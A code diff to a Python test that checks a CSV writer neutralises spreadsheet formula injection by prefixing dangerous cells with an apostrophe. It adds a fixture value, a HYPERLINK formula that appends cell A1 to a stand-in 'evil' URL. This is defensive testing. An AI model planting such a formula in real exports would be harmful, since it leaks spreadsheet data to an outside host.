@@ -112,6 +112,7 @@ def test_every_awkward_value_survives_the_csv(tmp_path: Path) -> None:
         SourceRecord(
             "recG", "2024-01-07T00:00:00.000Z", {"name": '{"valid": true}', "links": ["r"], "n": -1}
         ),
+        SourceRecord("recH", "2024-01-08T00:00:00.000Z", {"name": ' =HYPERLINK("http://evil/"&A1)'}),
     ]
     path = tmp_path / "t.csv"
     entry = write_csv_table(path, records)
@@ -129,10 +130,25 @@ def test_every_awkward_value_survives_the_csv(tmp_path: Path) -> None:
         ("recC", "links"),
         ("recD", "links"),
         ("recD", "n"),
+        # Shown with an apostrophe, so no spreadsheet runs them (issue 22 item 8); kept exactly here.
+        ("recG", "n"),
+        ("recH", "name"),
     }
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = {row[0]: row for row in csv.reader(handle)}
+    assert cells["recH"][2] == '\' =HYPERLINK("http://evil/"&A1)'
     back = read_csv_table(path, json.loads(json.dumps(entry)))
     assert back == records
-    assert [type(r.fields.get("n")) for r in back] == [int, float, bool, str, type(None), type(None), int]
+    assert [type(r.fields.get("n")) for r in back] == [
+        int,
+        float,
+        bool,
+        str,
+        type(None),
+        type(None),
+        int,
+        type(None),
+    ]
 
 
 def test_a_changed_csv_file_is_refused(fake: FakeAirtable, tmp_path: Path) -> None:
